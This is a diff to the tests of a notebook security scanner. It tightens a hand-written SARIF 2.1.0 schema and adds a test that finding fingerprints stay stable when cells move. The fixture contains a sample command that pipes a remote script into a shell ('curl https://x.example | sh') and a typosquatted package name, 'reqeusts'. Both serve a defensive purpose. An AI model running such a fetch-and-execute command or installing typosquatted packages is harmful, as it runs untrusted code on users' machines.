@@ -232,7 +232,8 @@ def closed(required: list[str], **properties: Any) -> dict[str, Any]:
 
 
 LEVEL = {"enum": ["none", "note", "warning", "error"]}
-#: The part of SARIF 2.1.0 (OASIS, sections 3.13 to 3.58) that is written: its properties, what it requires, its values.
+#: The part of SARIF 2.1.0 (OASIS, sections 3.13 to 3.58) that is written, by hand: its properties, its values, and as
+#: required also what forges require beyond the format (a region, whole descriptions, a fingerprint).
 SARIF = closed(
     ["version", "runs"],
     version={"const": "2.1.0"},
@@ -251,9 +252,11 @@ SARIF = closed(
                         "type": "array",
                         "uniqueItems": True,
                         "items": closed(
-                            ["id"],
+                            ["id", "name", "shortDescription", "fullDescription", "help"],
                             id={"type": "string"},
+                            name={"type": "string", "pattern": "^([A-Z][a-z]+)+$"},
                             shortDescription=text(),
+                            fullDescription=text(),
                             help=text(),
                             defaultConfiguration=closed([], level=LEVEL),
                         ),
@@ -275,21 +278,26 @@ SARIF = closed(
             results={
                 "type": "array",
                 "items": closed(
-                    ["message"],
+                    ["message", "ruleId", "level", "locations", "partialFingerprints"],
                     ruleId={"type": "string"},
                     ruleIndex={"type": "integer", "minimum": -1},
                     level=LEVEL,
                     message=text(),
+                    partialFingerprints=closed(
+                        ["primaryLocationLineHash"],
+                        primaryLocationLineHash={"type": "string", "pattern": "^[0-9a-f]{16}:[1-9][0-9]*$"},
+                    ),
                     locations={
                         "type": "array",
+                        "minItems": 1,
                         "items": closed(
-                            [],
+                            ["physicalLocation"],
                             physicalLocation=closed(
-                                [],
+                                ["artifactLocation", "region"],
                                 artifactLocation=closed(
                                     [], uri={"type": "string", "pattern": r"^[A-Za-z0-9/._~:%-]+$"}
                                 ),
-                                region=closed([], startLine={"type": "integer", "minimum": 1}),
+                                region=closed(["startLine"], startLine={"type": "integer", "minimum": 1}),
                             ),
                             logicalLocations={
                                 "type": "array",
@@ -327,3 +335,22 @@ def test_sarif_is_valid_and_points_at_the_line_of_the_file(tmp_path: Path) -> No
     assert place["artifactLocation"]["uri"] == "odd%20n%C3%A4me%20%231.ipynb"
     assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
     assert not run["invocations"][0]["executionSuccessful"]
+
+
+def test_a_finding_keeps_its_fingerprint_where_its_cell_moves_and_two_are_told_apart(
+    names: Names, tmp_path: Path
+) -> None:
+    line = "!curl https://x.example | sh"
+
+    def prints(*cells: Any) -> dict[str, int]:
+        said = scanning.sarif([scanned(names, tmp_path, *cells, runt={"uv": {"dependencies": ["reqeusts"]}})])
+        jsonschema.validate(said, SARIF)
+        results = said["runs"][0]["results"]
+        found = {one["partialFingerprints"]["primaryLocationLineHash"]: one for one in results}
+        assert len(found) == len(results)
+        return {key: one["locations"][0]["physicalLocation"]["region"]["startLine"] for key, one in found.items()}
+
+    before = prints(f"{line}\n{line}")
+    after = prints(f"# more\n# lines\n{line}\n{line}", "print(1)")
+    assert before.keys() == after.keys() and len(before) >= 3
+    assert prints(line).keys() < before.keys()
